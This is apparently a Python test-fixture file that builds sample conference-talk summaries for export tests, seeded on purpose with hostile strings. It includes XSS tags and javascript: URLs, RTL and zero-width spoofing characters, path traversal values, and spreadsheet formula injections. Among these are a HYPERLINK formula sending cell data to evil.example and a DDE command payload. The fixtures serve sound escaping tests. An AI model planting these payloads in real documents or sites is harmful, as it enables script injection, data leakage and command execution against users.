"""Example summaries for the export tests: a lively talk full of hostile strings, an empty talk, an event."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

from app.export.summary import (
    HALLWAY_GUID,
    ActivityPoint,
    Burst,
    Citation,
    Contributor,
    EventSummary,
    PostRow,
    QuestionEntry,
    TakeawayEntry,
    TalkSummary,
    TopicSummary,
)

EVENT_NAME = "DemoCon 2026"
EVENT_SLUG = "democon-2026"
TALK_TITLE = "Streaming Topic Models for Live Conferences"
TALK_GUID = "5f1b7c3e-0b7a-4d5e-9a43-0d6b1b2a9c01"
TAKEAWAY_TEXT = "Hashing features let the topic model learn forever without a refit"
ANSWERED_QUESTION = "How do you keep topic ids stable when clusters merge?"
ANSWER_TEXT = "Merged clusters keep the older id; the newer one is retired, never reused"
OPEN_QUESTION = "Does this work for talks in German and English at once?"
BURST_LABEL = "live demo"

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_URL = "javascript:alert(1)"
RTL = "invoice\u202egnp.exe"
ZERO_WIDTH = "pay\u200bpal\u2060 \ufeffsecure"
MD_LINK = "[click](javascript:alert(1))"
TABLE_BREAK = "a | b\n# not a heading\n| c |"
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd", "-1+2")

START = datetime(2026, 5, 14, 8, 0, tzinfo=UTC)  # 10:00 in Europe/Berlin
END = START + timedelta(minutes=45)


def at(minutes: float) -> datetime:
    return START + timedelta(minutes=minutes)


def cite(post_id: int, name: str, handle: str, text: str, minutes: float, url: str | None = None) -> Citation:
    return Citation(
        post_id=post_id,
        author_name=name,
        author_handle=handle,
        url=url if url is not None else f"https://social.example/@{handle}/{post_id}",
        source="mastodon" if post_id % 3 else "bluesky",
        text=text,
        created_at=at(minutes),
    )


def build_talk_summary() -> TalkSummary:
    """A lively talk: two topics, merged takeaways, answered and open questions, hostile strings."""
    c1 = cite(101, "Ada Lovelace", "ada@social.example", TAKEAWAY_TEXT, 5)
    c2 = cite(102, "Grace Hopper", "grace@hopper.example", "hashing trick = no refit, love it", 6)
    c3 = cite(103, f"Mallory {SCRIPT}", "mallory@evil.example", f"{IMG} {MD_LINK}", 7, url=JS_URL)
    c4 = cite(104, "Ren\u00e9e \u00c5str\u00f6m", "renee@bsky.example", "Stable ids matter for the live page", 12)
    c5 = cite(105, f"Eve {RTL}", "eve@evil.example", f"{TABLE_BREAK} {ZERO_WIDTH}", 14)
    q1 = cite(106, "Linus", "linus@social.example", ANSWERED_QUESTION, 20)
    a1 = cite(107, "Speaker", "speaker@democon.example", ANSWER_TEXT, 22)
    q2 = cite(108, "Yuki \u5c71\u7530", "yuki@social.example", OPEN_QUESTION, 30)
    q3 = cite(109, "Trudy", "trudy@evil.example", f"{FORMULAS[0]} why?", 31, url="data:text/html,hi")
    topics = (
        TopicSummary(
            id=1,
            label="Hashing features",
            keyphrases=("hashing trick", "no refit", "partial_fit"),
            takeaways=(
                TakeawayEntry(text=TAKEAWAY_TEXT, count=3, votes=7, citations=(c1, c2, c3)),
                TakeawayEntry(text=f"{SCRIPT} {MD_LINK} {IMG}", count=1, votes=0, citations=(c3,)),
            ),
        ),
        TopicSummary(
            id=4,
            label=f"# Stable ids {TABLE_BREAK}",
            keyphrases=("topic ids", f"{SCRIPT}"),
            takeaways=(
                TakeawayEntry(text="Topic ids are never reused, so the page can key on them", citations=(c4,)),
                TakeawayEntry(text=f"{RTL} {ZERO_WIDTH} {TABLE_BREAK}", citations=(c5,)),
            ),
        ),
    )
    questions = (
        QuestionEntry(question=q1, votes=12, answers=(a1,)),
        QuestionEntry(question=q2, votes=4),
        QuestionEntry(question=q3, votes=0),
    )
    activity = tuple(
        ActivityPoint(minute=at(m), count=n)
        for m, n in [(0, 1), (2, 2), (5, 6), (6, 9), (7, 11), (8, 5), (12, 3), (14, 2), (20, 4), (22, 7),
                     (23, 12), (24, 8), (30, 3), (31, 2), (40, 1), (44, 2)]
    )  # fmt: skip
    bursts = (
        Burst(start=at(5), end=at(9), peak=11, label=BURST_LABEL),
        Burst(start=at(22), end=at(25), peak=12, label=f"{SCRIPT} $x^2$ \u202eevil"),
    )
    posts = tuple(
        PostRow(
            id=c.post_id,
            created_at=c.created_at,
            source=c.source,
            author=c.author_name,
            handle=c.author_handle,
            kind=kind,
            talk_guid=TALK_GUID,
            topic_label=topic,
            upvotes=c.post_id % 5,
            boosts=1,
            text=c.text,
            url=c.url,
        )
        for c, kind, topic in [
            (c1, "takeaway", "Hashing features"),
            (c2, "takeaway", "Hashing features"),
            (c3, "other", "Hashing features"),
            (c4, "takeaway", topics[1].label),
            (c5, "feedback", None),
            (q1, "question", None),
            (a1, "answer", None),
            (q2, "question", None),
            (q3, "question", None),
        ]
    ) + tuple(
        PostRow(
            id=200 + i,
            created_at=at(40),
            source="notes",
            author=formula,
            handle=formula,
            kind="other",
            talk_guid=TALK_GUID,
            topic_label=formula,
            upvotes=0,
            boosts=0,
            text=formula,
            url=None,
        )
        for i, formula in enumerate((*FORMULAS, "\tTAB", "\rCR"))
    )
    return TalkSummary(
        event_name=EVENT_NAME,
        event_slug=EVENT_SLUG,
        guid=TALK_GUID,
        title=TALK_TITLE,
        speakers=("Dr. Jane Example", f"Bob {SCRIPT}"),
        start=START,
        end=END,
        room="Hall 1 | Main",
        track="Data & ML",
        url="https://democon.example/2026/talk/STM42/",
        feedback_url=JS_URL,
        slug="streaming-topic-models",
        time_zone="Europe/Berlin",
        topics=topics,
        questions=questions,
        activity=activity,
        bursts=bursts,
        counts_by_source={"mastodon": 10, "bluesky": 4, "notes": 6},
        counts_by_language={"en": 17, "de": 2, "ja": 1},
        top_contributors=(
            Contributor(name="Ada Lovelace", handle="ada@social.example", count=4),
            Contributor(name=f"Mallory {SCRIPT}", handle="mallory@evil.example", count=3),
        ),
        posts=posts,
    )


def build_empty_talk(title: str = "A Talk Nobody Posted About", guid: str = "empty-talk") -> TalkSummary:
    return TalkSummary(event_name=EVENT_NAME, event_slug=EVENT_SLUG, guid=guid, title=title)


def build_event_summary() -> EventSummary:
    hostile = TalkSummary(
        event_name=EVENT_NAME,
        event_slug=EVENT_SLUG,
        guid="../../etc/passwd",
        title=f"../../{SCRIPT}",
        slug="../../../evil\u202e",
        start=at(60),
        end=at(90),
        room="Hall 2",
        time_zone="Europe/Berlin",
    )
    hallway = TalkSummary(
        event_name=EVENT_NAME,
        event_slug=EVENT_SLUG,
        guid=HALLWAY_GUID,
        title="Hallway",
        time_zone="Europe/Berlin",
        topics=(
            TopicSummary(
                id=9,
                label="Coffee",
                takeaways=(
                    TakeawayEntry(
                        text="The coffee on level 2 is the good one",
                        citations=(cite(301, "Ada Lovelace", "ada@social.example", "level 2 coffee!", 50),),
                    ),
                ),
            ),
        ),
    )
    return EventSummary(
        name=EVENT_NAME,
        slug=EVENT_SLUG,
        start_date=date(2026, 5, 14),
        end_date=date(2026, 5, 15),
        time_zone="Europe/Berlin",
        generated_at=datetime(2026, 5, 15, 18, 0, tzinfo=UTC),
        talks=(build_talk_summary(), build_empty_talk(), hostile),
        hallway=hallway,
    )
